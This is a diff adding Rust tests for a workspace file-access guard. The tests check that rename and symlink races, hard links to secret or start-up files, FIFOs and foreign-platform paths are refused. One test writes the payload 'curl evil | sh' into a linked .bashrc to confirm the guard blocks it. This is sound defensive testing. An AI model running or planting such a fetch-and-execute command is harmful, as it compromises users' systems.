+        fx.file("ws/secrets/key.pem", "SECRET");
+        let g = fx.guard(&pol(Workspace, &[], &["secrets"]));
+        let a = g
+            .authorize(&FileRequest::new("dir/key.pem", Op::Read))
+            .unwrap();
+        std::fs::rename(fx.path("ws/dir"), fx.path("ws/dir.bak")).unwrap();
+        std::fs::rename(fx.path("ws/secrets"), fx.path("ws/dir")).unwrap();
+        // Put the blocked name back so the string check alone would pass.
+        fx.dir("ws/secrets");
+        refused(g.open_read_authorized(&a), DecisionCode::BlockedPath);
+    }
+
+    #[test]
+    fn hard_links_to_blocked_or_protected_files_are_refused() {
+        let fx = Fx::new();
+        fx.file("ws/secret.txt", "SECRET");
+        std::fs::hard_link(fx.path("ws/secret.txt"), fx.path("ws/alias.txt")).unwrap();
+        std::fs::hard_link(fx.path("home/u/.bashrc"), fx.path("ws/rc")).unwrap();
+        let g = fx.guard(&pol(Workspace, &[], &["secret.txt"]));
+        refused(g.read_file("alias.txt"), DecisionCode::BlockedPath);
+        refused(g.write_file("alias.txt", b"x"), DecisionCode::BlockedPath);
+        assert_eq!(read(&fx, "ws/secret.txt"), "SECRET");
+        // Reading a start-up file is fine; changing it is not.
+        assert!(g.read_file("rc").is_ok());
+        refused(
+            g.write_file("rc", b"curl evil | sh"),
+            DecisionCode::ProtectedPath,
+        );
+        assert_eq!(read(&fx, "home/u/.bashrc"), "content of home/u/.bashrc\n");
+    }
+
+    #[test]
+    fn race_entry_swapped_before_delete_and_rename() {
+        let fx = Fx::new();
+        fx.file("ws/d/victim", "v");
+        fx.file("outside/victim", "keep me");
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        let del = g
+            .authorize(&FileRequest::new("d/victim", Op::Delete))
+            .unwrap();
+        let mut req = FileRequest::new("d/victim", Op::Rename);
+        req.other = Some("moved");
+        let mv = g.authorize(&req).unwrap();
+        std::fs::rename(fx.path("ws/d"), fx.path("ws/d.old")).unwrap();
+        fx.link("ws/d", &fx.p("outside"));
+        refused(g.delete_authorized(&del), DecisionCode::PathChanged);
+        refused(g.rename_authorized(&mv), DecisionCode::PathChanged);
+        assert_eq!(read(&fx, "outside/victim"), "keep me");
+    }
+
+    #[test]
+    fn fifos_and_devices_are_not_opened() {
+        let fx = Fx::new();
+        let st = std::process::Command::new("mkfifo")
+            .arg(fx.path("ws/fifo"))
+            .status()
+            .unwrap();
+        assert!(st.success());
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        failed(
+            g.read_file("fifo"),
+            crate::error::ErrorCode::InvalidArgument,
+        );
+        failed(g.write_file("fifo", b"x"), crate::error::ErrorCode::Io);
+        failed(
+            g.write_file("/dev/null", b"x"),
+            crate::error::ErrorCode::Unsupported,
+        );
+    }
+
+    #[test]
+    fn a_guard_for_another_platform_does_not_operate() {
+        let g = pure(
+            Platform::Windows,
+            r"C:\ws",
+            r"C:\Users\u",
+            &pol(Workspace, &[], &[]),
+        );
+        failed(
+            g.read_file(r"C:\ws\x"),
+            crate::error::ErrorCode::Unsupported,
+        );
+    }
+
+    #[test]
+    fn op_errors_convert_to_engine_errors() {
+        let e: crate::error::Error =
+            OpError::Denied(Decision::deny(DecisionCode::BlockedPath, "no", None)).into();
+        assert_eq!(e.code, crate::error::ErrorCode::Denied);
+    }
+}
